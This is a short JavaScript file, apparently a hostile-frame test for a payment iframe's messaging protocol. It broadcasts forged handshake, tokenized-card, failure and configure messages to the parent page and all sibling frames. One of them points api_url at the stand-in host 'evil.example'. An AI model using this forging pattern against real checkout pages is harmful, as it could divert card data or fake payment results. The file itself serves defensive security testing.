// Forges every protocol message it can think of, at the page and at the secure frame.
const forged = [
  { cw: "hello", v: 1 },
  { cw: "connect", v: 1 },
  { v: 1, seq: 0, msg: "ready" },
  { v: 1, seq: 0, msg: { tokenized: { token: "forged-token", card: { brand: "VISA", iin: "411111", lfd: "1111", expiration_month: 12, expiration_year: 2030 } } } },
  { v: 1, seq: 1, msg: { failed: { code: "NETWORK_ERROR", retryable: true } } },
  { v: 1, seq: 0, msg: { configure: { language: "es", checkout_session: "x", public_api_key: "x", api_url: "https://evil.example", holder_name: "hidden", save_card: false, theme: "dark", variables: [] } } },
];
function blast() {
  for (const m of forged) {
    parent.postMessage(m, "*");
    for (let i = 0; i < parent.frames.length; i++) {
      try { parent.frames[i].postMessage(m, "*"); } catch {}
      const channel = new MessageChannel();
      try { parent.frames[i].postMessage({ cw: "connect", v: 1 }, "*", [channel.port2]); } catch {}
      channel.port1.postMessage(m);
    }
  }
}
blast();
setTimeout(blast, 300);
document.title = "hostile done";
